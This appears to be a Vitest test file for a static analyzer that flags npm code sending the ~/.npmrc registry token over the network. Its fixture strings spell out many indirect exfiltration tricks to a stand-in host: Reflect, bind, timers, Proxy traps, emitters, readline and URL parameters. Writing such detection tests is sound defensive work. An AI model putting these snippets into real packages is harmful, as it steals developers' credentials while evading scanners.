// Indirect ways of reaching a sending API or of carrying data to it: import().then,
// Reflect, call/apply/bind on a module function, emitters, readline over a file, URL
// query parameters, and clients configured by create()/extend().
import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const HEAD = "const fs = require('fs'); const os = require('os'); const https = require('https');\n";
const READ = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')";

async function flowsOf(code: string): Promise<string[]> {
  return flowSummary(await analyze({ "index.js": HEAD + code })).map((f) => f.replace(/ @\S+/, ""));
}

describe("indirect calls of a sending API", () => {
  it.each([
    ["import().then(module)", `import('node:https').then((m) => m.request('https://t.example.invalid/x').end(${READ}));`],
    ["import().then with a destructured parameter", `import('https').then(({ request }) => request('https://t.example.invalid/x').end(${READ}));`],
    ["Reflect.get", `const req = Reflect.get(https, 'request'); req('https://t.example.invalid/x').end(${READ});`],
    ["Reflect.apply", `Reflect.apply(https.request, https, ['https://t.example.invalid/x']).end(${READ});`],
    ["Function.prototype.call", `https.request.call(https, 'https://t.example.invalid/x').end(${READ});`],
    ["Function.prototype.apply", `https.request.apply(https, ['https://t.example.invalid/x']).end(${READ});`],
    ["Function.prototype.bind", `const send = https.request.bind(https); send('https://t.example.invalid/x').end(${READ});`],
  ])("through %s", async (_name, code) => {
    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("a bound axios method is still the method, not a call named bind", async () => {
    const flows = await flowsOf(`const axios = require('axios'); const post = axios.post.bind(axios); post('https://t.example.invalid/x', ${READ});`);
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("ky instances made by create()", async () => {
    const flows = await flowsOf(`const ky = require('ky'); const c = ky.create({ prefixUrl: 'https://t.example.invalid' }); c.post('x', { body: ${READ} });`);
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });
});

describe("timers pass their extra arguments to the callback", () => {
  const SEND = "function send(d) { https.request('https://t.example.invalid/x').end(d); }\n";
  it.each([
    ["setTimeout(fn, delay, arg)", `setTimeout(send, 10, ${READ});`],
    ["setInterval(fn, delay, arg)", `setInterval(send, 10, ${READ});`],
    ["setImmediate(fn, arg)", `setImmediate(send, ${READ});`],
    ["process.nextTick(fn, arg)", `process.nextTick(send, ${READ});`],
  ])("%s", async (_name, code) => {
    expect(await flowsOf(SEND + code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("a delay is not an argument, and queueMicrotask passes none", async () => {
    expect(await flowsOf(SEND + `setTimeout(send, ${READ}.length);`)).toEqual([]);
    expect(await flowsOf(SEND + `queueMicrotask(send, ${READ});`)).toEqual([]);
  });
});

describe("bound functions keep their bound this and arguments", () => {
  const SEND = "function send(d) { https.request('https://t.example.invalid/x').end(d); }\n";
  it.each([
    ["called at once", `send.bind(null, ${READ})();`],
    ["handed to a timer", `setTimeout(send.bind(null, ${READ}));`],
    ["bound twice", `send.bind(null).bind(undefined, ${READ})();`],
  ])("a pre-bound argument, %s", async (_name, code) => {
    expect(await flowsOf(SEND + code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("the bound this names the destination; calling through another receiver does not change it", async () => {
    const code = "const a = { u: 'https://t.example.invalid/x', go(d) { https.request(this.u).end(d); } };\n" +
      `const b = { u: 'https://other.example.invalid/', go: a.go.bind(a) };\nb.go(${READ});`;
    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });
});

describe("modules reached through the loader's other doors", () => {
  it.each([
    ["module.constructor._load", "const f = module.constructor._load('fs');"],
    ["require('module')._load", "const f = require('module')._load('fs');"],
    ["require('node:module').Module._load", "const f = require('node:module').Module._load('fs');"],
    ["createRequire(…)(…)", "const f = require('node:module').createRequire(__filename)('fs');"],
    ["process.mainModule.constructor._load", "const f = process.mainModule.constructor._load('fs');"],
    ["process.getBuiltinModule", "const f = process.getBuiltinModule('node:fs');"],
  ])("%s is the module", async (_name, code) => {
    const flows = await flowsOf(`${code}\nhttps.request('https://t.example.invalid/x').end(f.readFileSync(os.homedir() + '/.npmrc'));`);
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("process.getBuiltinModule never loads a file of the package", async () => {
    const flows = flowSummary(await analyze({
      "index.js": "const m = process.getBuiltinModule('./send.js'); m.go(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));",
      "send.js": "exports.go = (d) => require('https').request('https://t.example.invalid/x').end(d);",
    }));
    expect(flows).toEqual([]);
  });
});

describe("Electron's main-process HTTP client", () => {
  it.each([
    ["net.request(options) then write()", `const { net } = require('electron'); const r = net.request({ method: 'POST', url: 'https://t.example.invalid/x' }); r.write(${READ}); r.end();`],
    ["net.request(url).end(data)", `const electron = require('electron'); electron.net.request('https://t.example.invalid/x').end(${READ});`],
    ["net.fetch(url, init)", `const { net } = require('electron'); net.fetch('https://t.example.invalid/x', { method: 'POST', body: ${READ} });`],
    ["session.defaultSession.fetch", `const { session } = require('electron'); session.defaultSession.fetch('https://t.example.invalid/x', { method: 'POST', body: ${READ} });`],
  ])("%s", async (_name, code) => {
    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });
});

describe("Proxy get traps", () => {
  const SENT = ["registry-token -> http https://t.example.invalid/x (import)"];
  it.each([
    ["a trap that reads the file its property names", "const p = new Proxy({}, { get(_t, name) { return fs.readFileSync(os.homedir() + '/.' + name, 'utf8'); } });\nhttps.request('https://t.example.invalid/x').end(p.npmrc);"],
    ["an arrow trap, any property", `const p = new Proxy({}, { get: () => ${READ} });\nhttps.request('https://t.example.invalid/x').end(p.anything);`],
    ["a trap forwarding to its target", `const p = new Proxy({ k: ${READ} }, { get(t, n) { return Reflect.get(t, n); } });\nhttps.request('https://t.example.invalid/x').end(p.k);`],
  ])("%s", async (_name, code) => {
    expect(await flowsOf(code)).toEqual(SENT);
  });

  it("a proxy without a get trap reads its target", async () => {
    expect(await flowsOf(`const p = new Proxy({ k: ${READ} }, {});\nhttps.request('https://t.example.invalid/x').end(p.k);`)).toEqual(SENT);
    expect(await flowsOf(`const p = new Proxy({ k: ${READ}, v: '1' }, {});\nhttps.request('https://t.example.invalid/x').end(p.v);`)).toEqual([]);
  });
});

describe("data carried by events, lines and URLs", () => {
  it("emit() reaches the listeners registered with on()", async () => {
    const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
  });

  it("a listener of another event does not get the data", async () => {
    const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('other', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
    expect(flows).toEqual([]);
  });

  it.each([
    ["rl.on('line')", "rl.on('line', (line) => https.get('https://t.example.invalid/?l=' + line));"],
    ["for await over the interface", "(async () => { for await (const line of rl) https.get('https://t.example.invalid/?l=' + line); })();"],
  ])("lines of a credential file read with readline: %s", async (_name, code) => {
    const flows = await flowsOf(`const rl = require('readline').createInterface({ input: fs.createReadStream(os.homedir() + '/.npmrc') });\n${code}`);
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/?l=* (import)"]);
  });

  it("url.searchParams.set() taints the URL, which keeps its folded destination", async () => {
    const base = `const u = new URL('/c', 'https://t.example.invalid'); u.searchParams.set('d', ${READ});\n`;
    expect(await flowsOf(base + "https.get(u);")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
    expect(await flowsOf(base + "fetch(u.toString());")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
    expect(await flowsOf(base + "fetch(u.href);")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
  });

  it("a URL without secret parameters is only a destination", async () => {
    expect(await flowsOf("const u = new URL('https://t.example.invalid/c'); u.searchParams.set('v', '1'); https.get(u);")).toEqual([]);
  });
});
